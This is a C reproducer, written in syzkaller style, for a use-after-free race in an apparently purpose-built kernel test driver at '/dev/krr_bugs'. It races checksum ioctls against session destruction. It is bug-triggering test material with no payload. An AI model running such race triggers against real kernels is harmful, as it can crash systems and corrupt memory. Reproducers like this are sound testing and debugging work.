// use-after-free in session_checksum through a race with KRR_SESSION_DESTROY
// (written the way syzkaller writes C reproducers)

#define _GNU_SOURCE

#include <pthread.h>
#include <stdint.h>
#include <string.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

static void sleep_us(uint64_t us) {
    struct timespec ts = {0, (long)(us * 1000)};
    syscall(__NR_nanosleep, &ts, 0);
}

uint64_t r[1] = {0xffffffffffffffff};

static void* thr(void* arg) {
    (void)arg;
    for (int i = 0; i < 64; i++) {
        // KRR_SESSION_CHECKSUM
        if (syscall(__NR_ioctl, r[0], 0x4b03ul, 0ul) < 0)
            break;
    }
    return 0;
}

int main(void) {
    syscall(__NR_mmap, 0x1ffff000ul, 0x1000ul, 0ul, 0x32ul, -1, 0ul);
    syscall(__NR_mmap, 0x20000000ul, 0x1000000ul, 7ul, 0x32ul, -1, 0ul);
    syscall(__NR_mmap, 0x21000000ul, 0x1000ul, 0ul, 0x32ul, -1, 0ul);
    intptr_t res = 0;
    memcpy((void*)0x20000000, "/dev/krr_bugs\000", 14);
    res = syscall(__NR_openat, 0xffffffffffffff9cul, 0x20000000ul, 2ul, 0ul);
    if (res != -1)
        r[0] = res;
    for (int iter = 0; iter < 32; iter++) {
        pthread_t th;
        // KRR_SESSION_CREATE: 64 KiB of data
        syscall(__NR_ioctl, r[0], 0x4b01ul, 0x10000ul);
        pthread_create(&th, 0, thr, 0);
        sleep_us(500 + (iter * 317) % 1500);
        // KRR_SESSION_DESTROY
        syscall(__NR_ioctl, r[0], 0x4b02ul, 0ul);
        pthread_join(th, 0);
    }
    return 0;
}
